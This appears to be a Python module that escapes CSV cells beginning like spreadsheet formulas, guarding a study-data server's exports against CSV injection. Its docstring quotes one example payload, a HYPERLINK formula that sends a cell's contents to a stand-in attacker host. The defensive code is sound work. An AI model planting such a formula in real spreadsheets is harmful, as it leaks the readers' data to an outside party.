"""CSV answers that a spreadsheet opens as data: a cell that begins like a formula is
written as text.

Excel and LibreOffice evaluate a CSV cell that starts with ``=``, ``+``, ``-`` or ``@``
(and some read a leading tab or carriage return past), so a study title such as
``=HYPERLINK("https://evil.example/?"&A1, "Full text")`` in a sheet, or anything in a remote
store, would run in the reader's spreadsheet. As OWASP's CSV Injection advice says, such a
cell is prefixed with a single quote, which both programs show and keep as text. Numbers
are written as they are (a count is never negative). Every CSV the server writes
(``/studies``, ``/summary``, ``/gaps``, ``/map``) is made here.

SPARQL results in CSV and TSV are not: they are W3C formats whose values must reach the
program that asked for them exactly (a literal ``-5`` or ``+44 20 ...`` is the data), and
the query's author chooses what they hold.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
TEXT_PREFIX = "'"


def spreadsheet_cell(value: object) -> object:
    """``value``, prefixed with a single quote when it is text that begins like a formula."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return TEXT_PREFIX + value
    return value


def csv_table(rows: Iterable[Sequence[object]]) -> bytes:
    """``rows`` (the header first) as UTF-8 CSV with CRLF line ends (RFC 4180)."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerows([spreadsheet_cell(value) for value in row] for row in rows)
    return out.getvalue().encode("utf-8")
